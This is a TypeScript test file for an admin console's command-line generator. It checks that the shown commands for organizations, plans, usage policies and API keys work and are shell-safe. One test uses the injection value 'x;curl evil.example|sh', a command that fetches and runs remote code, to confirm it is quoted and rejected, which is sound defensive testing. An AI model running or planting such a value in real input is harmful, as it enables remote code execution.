// The command line that a page shows for an action has the same effect as the action itself.
import { describe, expect, test } from "bun:test";
import { modelNamed } from "../../../console/core/clients.ts";
import { commandLine, reportCommand } from "../../../console/core/command-line.ts";
import { verbTable } from "../../../console/core/verb-table.ts";
import { verbs } from "../../../src/admin/management/verbs.ts";
import { shell } from "../cli/shell.ts";

type Given = Record<string, unknown>;

const table = verbTable();
const line = (verb: string, input: Given) => commandLine(table[verb]!.command!, input);

/** Splits a command line at spaces, and drops the program's name. */
const wordsOf = (written: string) => written.split(" ").slice(1);

describe("a command that a page shows", () => {
  test("is there for every verb, but for one whose answer another command shows", () => {
    const read = verbs.flatMap(({ command }) => command?.reads?.name ?? []);
    // The limits of all kinds of subjects share one command (docs/limits.md), and their actions give its arguments.
    const ofLimits = verbs.filter(({ tag }) => tag === "Limits");
    const silent = verbs.filter((one) => !one.command && !read.includes(one.name) && !ofLimits.includes(one));
    expect(silent.map(({ name }) => name)).toEqual([]);
  });

  test.each(verbs.filter(({ command }) => command).map((one) => [one.name, one] as const))(
    "of %s is known to the command line",
    async (name, { example }) => {
      const words = wordsOf(line(name, example.takes as Given)).filter((word) => !word.startsWith("'"));
      expect((await shell().typed([...words, "--help"])).code).toBe(0);
    },
  );

  test("is taken by the command line, and does what its verb would do", async () => {
    const { json } = shell();
    const run = async (verb: string, input: Given): Promise<Given> => json([...wordsOf(line(verb, input)), "--json"]);
    const organization = "acme";
    expect(await run("createOrganization", { slug: organization, name: "Acme" })).toMatchObject({ name: "Acme" });
    expect(await run("setPlan", { organization, plan: null })).toMatchObject({ plan: null });
    expect(await run("setPlan", { organization, plan: "starter" })).toMatchObject({ plan: "starter" });
    expect(await run("setExtraUsage", { organization, cap: "5" })).toMatchObject({
      extra_usage: { enabled: true, cap: { amount: "5.000000000", currency: "USD" } },
    });
    expect(await run("setExtraUsage", { organization, cap: null })).toMatchObject({
      extra_usage: { enabled: false },
    });
    const policies = { key_lifetime_max_days: 90, key_unused_max_days: null, keeps_content: false };
    expect(await run("updatePolicies", { organization, ...policies })).toMatchObject(policies);
    const lifted = { key_lifetime_max_days: null, keeps_content: true };
    expect(await run("updatePolicies", { organization, ...lifted })).toMatchObject(lifted);
    const made = await run("createKey", { organization, name: "agents", owner: "ann", limits: { week: "5" } });
    const id = made.id as string;
    expect(made).toMatchObject({ name: "agents", owner: "ann" });
    const changes = { owner: null, allow_from: ["10.0.0.0/8"], expires_at: "2040-01-31" };
    expect(await run("updateKey", { id, ...changes })).toMatchObject({
      ...changes,
      expires_at: "2040-01-31T00:00:00.000Z",
    });
    const open = { allow_from: null, models: null, expires_at: null };
    expect(await run("updateKey", { id, ...open })).toMatchObject(open);
    expect(await run("updateKey", { id, team: null, name: "editor" })).toMatchObject({ name: "editor" });
    expect(await run("rotateKey", { id, grace: "1h" })).toMatchObject({ id });
    expect(await run("revokeKey", { id, old: true })).toMatchObject({ id, revoked_at: null });
    expect((await run("revokeKey", { id })).revoked_at).not.toBeNull();
    expect(await run("closeOrganization", { organization })).toMatchObject({ status: "closed" });
  });

  test("shows the name of what is not filled in yet, and quotes what a shell would read otherwise", () => {
    expect(line("createOrganization", {})).toBe("sluice org create SLUG");
    expect(line("createKey", { organization: "acme", name: "it's $HOME" })).toBe(
      `sluice key create --org acme --name 'it'\\''s $HOME'`,
    );
  });

  test("has nothing of the page's address that a shell would carry out, since somebody else may have written it", () => {
    const words = "x;curl evil.example|sh";
    expect(reportCommand({ by: "model", organization: "acme", model: words })).toBe(
      `sluice usage report --by model --model '${words}' --org acme`,
    );
    expect([words, "qwen/qwen3-32b", null].map((named) => modelNamed(named, null))).toEqual([
      null,
      "qwen/qwen3-32b",
      null,
    ]);
    expect([words, "b"].map((named) => modelNamed(named, ["a", "b"]))).toEqual([null, "b"]);
  });
});
